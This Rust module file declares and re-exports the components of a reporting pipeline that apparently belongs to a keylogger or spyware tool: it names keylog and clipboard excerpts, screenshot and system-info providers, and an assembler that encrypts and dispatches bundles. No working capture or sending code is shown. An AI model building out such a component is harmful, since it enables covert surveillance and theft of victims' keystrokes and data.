//! Reporting side of the pipeline.
//!
//! This module contains:
//! - The scheduler that fires report cycles one at a time
//! - The assembler that stages, encrypts and dispatches a bundle
//! - Snapshot providers and the plain-text report renderer

pub mod assembler;
pub mod providers;
pub mod render;
pub mod scheduler;

pub use assembler::{
    CycleOutcome, DispatchStatus, ReportAssembler, ReportCycle, CLIPBOARD_EXCERPT_LINES,
    KEYLOG_EXCERPT_LINES, RETAINED_UNSENT_BUNDLES,
};
pub use providers::{
    HostSnapshotProvider, NoScreenshots, ProviderError, ScreenshotProvider, SystemInfoProvider,
    SystemSnapshot,
};
pub use scheduler::{CycleGate, CycleGuard, FireOutcome, ReportScheduler, SchedulerState};
